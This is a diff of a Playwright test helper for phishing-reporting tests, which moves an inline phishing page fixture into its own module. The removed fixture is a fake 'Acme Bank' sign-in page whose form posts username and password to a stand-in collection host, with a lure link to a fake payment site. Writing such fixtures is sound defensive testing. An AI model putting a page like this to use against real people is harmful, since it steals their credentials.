@@ -1,22 +1,10 @@
 import type { BrowserContext, Page, Worker } from '@playwright/test';
 import type { Sandbox } from '../sandbox/server.ts';
+import { PHISHING_HTML } from '../support/phishing-page.ts';
 
 // Shared steps of the reporting tests: phishing pages served by Playwright
 // (nothing leaves the machine), the sandbox's state and request log, and the
 // test-only dispatchers the sandbox build exposes for menus and shortcuts.
-
-/** A phishing page: a credential form posting to another origin, outbound links, a third-party script. */
-const PHISHING_HTML = `<!doctype html><html><head><meta charset="utf-8"><title>Acme Bank – Sign in</title>
-<script src="https://cdn.kit-host.com/kit.js"></script></head>
-<body style="font: 20px sans-serif; background: #fff">
-<h1>Acme Bank secure sign-in</h1>
-<form action="https://collect.kit-host.com/gate.php" method="post">
-  <input name="username" type="email"><input name="password" type="password"><button>Sign in</button>
-</form>
-<p><a id="pay" href="https://pay.evil-link.com/checkout">Pay your fine</a>
-<a href="https://acme.example/real">Real Acme</a></p>
-<p id="contact">Call +44 20 7946 0958 or write to refunds[at]acme-billing[.]com</p>
-</body></html>`;
 
 /**
  * Serves the phishing page at every web address but the sandbox's, and
